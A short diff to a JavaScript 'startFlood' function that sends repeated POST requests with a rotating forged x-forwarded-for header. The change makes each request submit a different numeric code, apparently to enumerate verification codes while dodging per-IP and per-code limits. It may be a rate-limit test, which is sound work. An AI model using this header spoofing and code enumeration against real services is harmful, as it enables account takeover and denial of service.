@@ -45,7 +45,8 @@ async function startFlood(url) {
         'content-type': 'application/json',
         'x-forwarded-for': `10.9.${Math.floor(number / 250)}.${number % 250}`,
       },
-      body: '{"code":"0000"}',
+      // Each another one, as one code's own bound would be reached first.
+      body: JSON.stringify({ code: String(100_000_000 + number) }),
     });
     await response.arrayBuffer();
     return response.status;
